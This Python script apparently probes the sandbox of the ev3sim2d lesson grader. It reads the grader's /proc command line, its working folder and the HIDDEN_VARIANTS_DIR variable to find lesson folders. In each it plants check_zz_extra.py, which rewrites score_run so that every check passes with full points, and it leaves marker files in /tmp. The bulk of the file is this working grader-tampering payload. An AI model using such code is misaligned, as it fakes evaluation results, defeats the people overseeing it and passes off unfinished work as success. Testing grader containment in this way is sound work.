# ruff: noqa
"""Persist in the lesson: add a `check_*.py` file to the lesson's folder; the grader imports every such file
when it loads the lesson, so its code runs in every later grading of the lesson, in the grader itself.

The folder is found as the grader finds it: the shipped lessons of the ev3sim2d in sys.modules, the
lesson named on the grader's command line (/proc/<ppid>/cmdline, relative to its working folder), and
$HIDDEN_VARIANTS_DIR.  The added file swaps score_run for one that passes every check.

Contained: the program cannot write outside its scratch folder: the lesson folder is unchanged, a
program graded afterwards gets its own score; this program stands still and scores what standing still scores.
"""

import os

MARKER = "EV3CHEAT-persist-lesson-folder"
DROP_DIR = "/tmp/ev3sim2d-cheat-drop"

CHECK_FILE = f'''"""Extra checks. {MARKER}"""
import os as _os

import ev3sim2d.grading.scoring as _scoring

try:
    open(_os.path.join({DROP_DIR!r}, "persist_lesson_folder-hit-%d" % _os.getpid()), "w").close()
except OSError:
    pass


def _score_run(lesson, variant_index, record, ran_out_of_memory=False):
    variant = lesson.variants[variant_index]
    checks = [CheckResult(c.name, c.KIND, True, c.points, c.points, "passed", None) for c in lesson.checks]
    return VariantResult(variant.name, variant.hidden, "graded", "the program finished", round(record.end_s, 3), checks)


_scoring.score_run.__code__ = _score_run.__code__
'''

folders = set()
try:
    from ev3sim2d.grading.lesson import shipped_lessons_dir

    folders.add(str(shipped_lessons_dir() / "wall-stop"))
except Exception as err:
    print("no ev3sim2d:", err)
if os.environ.get("HIDDEN_VARIANTS_DIR"):
    folders.add(os.environ["HIDDEN_VARIANTS_DIR"])
try:
    grader = os.getppid()
    args = open(f"/proc/{grader}/cmdline", "rb").read().decode(errors="replace").split("\0")
    cwd = os.readlink(f"/proc/{grader}/cwd")
    folders |= {os.path.join(cwd, a) for a in args if os.path.isfile(os.path.join(cwd, a, "lesson.yaml"))}
except OSError:
    pass
for folder in sorted(folders):
    if os.path.isfile(os.path.join(folder, "lesson.yaml")):
        try:
            with open(os.path.join(folder, "check_zz_extra.py"), "w") as f:
                f.write(CHECK_FILE)
            print("persisted in", folder)
        except OSError as err:
            print("cannot persist in", folder, err)
